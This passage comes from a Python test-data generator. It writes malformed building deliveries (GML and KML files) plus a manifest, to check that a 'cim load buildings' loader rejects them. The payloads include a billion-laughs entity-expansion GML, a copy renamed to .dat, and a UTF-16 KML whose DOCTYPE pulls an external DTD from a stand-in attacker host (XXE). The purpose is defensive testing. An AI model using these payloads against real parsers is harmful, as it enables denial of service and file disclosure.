        "<!DOCTYPE lolz [\n" + "\n".join(ents) + "\n]>\n" + _GML_HEAD + body
        + "</ogr:FeatureCollection>\n", encoding="utf-8")


@case("xml_renamed_dat", "xml_renamed.dat",
      "the billion-laughs GML saved as .dat (GDAL picks the GML driver by content, not name)",
      "error", message="billion laughs")
def _xml_renamed(out: Path) -> None:
    _gml_laughs(out)
    shutil.copy(out / "gml_billion_laughs.gml", out / "xml_renamed.dat")


@case("kml_xxe", "kml_xxe.kml", "KML (UTF-16 with BOM) whose DOCTYPE pulls an external DTD",
      "error", message="XXE")
def _kml_xxe(out: Path) -> None:
    (out / "kml_xxe.kml").write_text(
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        '<!DOCTYPE kml SYSTEM "http://attacker.invalid/evil.dtd">\n'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&evil;</name>'
        "<Polygon><outerBoundaryIs><LinearRing><coordinates>116.6,35.4 116.61,35.4 "
        "116.61,35.41 116.6,35.4</coordinates></LinearRing></outerBoundaryIs></Polygon>"
        "</Placemark></Document></kml>\n", encoding="utf-16")


@case("gml_plain", "gml_plain.gml",
      "a GML without a DOCTYPE (control: the XML check must not refuse ordinary GML)",
      "loads", read=3, loaded=3, rejected=0, same_place=ids(3),
      flagged_by_reason={"use_missing": 3}, names={i: f"楼{k}" for k, i in enumerate(ids(3))})
def _gml_plain(out: Path) -> None:
    body = _gml_features(sample(3))
    for k in range(3):
        body = body.replace(f"{{NAME{k}}}", f"楼{k}")
    (out / "gml_plain.gml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n' + _GML_HEAD + body
        + "</ogr:FeatureCollection>\n", encoding="utf-8")


# -- driver ---------------------------------------------------------------------------------
def cases() -> list[dict]:
    """The manifest's cases, without writing anything."""
    return [dict(entry) for entry, _ in _WRITERS]


def generate(out: Path = DEFAULT_OUT) -> list[dict]:
    """(Re)write the corpus into ``out`` and return the manifest's cases."""
    out = Path(out)
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    CASES.clear()
    for entry, write in _WRITERS:
        write(out)
        CASES.append(entry)
    stems = [Path(c["file"]).stem for c in CASES]
    dup = {s for s in stems if stems.count(s) > 1}
    if dup:
        raise SystemExit(f"case file stems must be unique (they are dataset names): {dup}")
    manifest = {"description": "Malformed building deliveries and what `cim load buildings` "
                               "must do with each; generated by tests/data/make_bad_inputs.py",
                "sample": str(SAMPLE.relative_to(ROOT)), "cases": CASES}
    (out / "MANIFEST.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n",
                                       encoding="utf-8")
    return CASES


def main(argv: list[str]) -> None:
    out = Path(argv[1]) if len(argv) > 1 else DEFAULT_OUT
    cases = generate(out)
    size = sum(p.stat().st_size for p in out.rglob("*") if p.is_file())
    print(f"wrote {len(cases)} cases ({size / 1024:.0f} kB) to {out}")


if __name__ == "__main__":
    main(sys.argv)
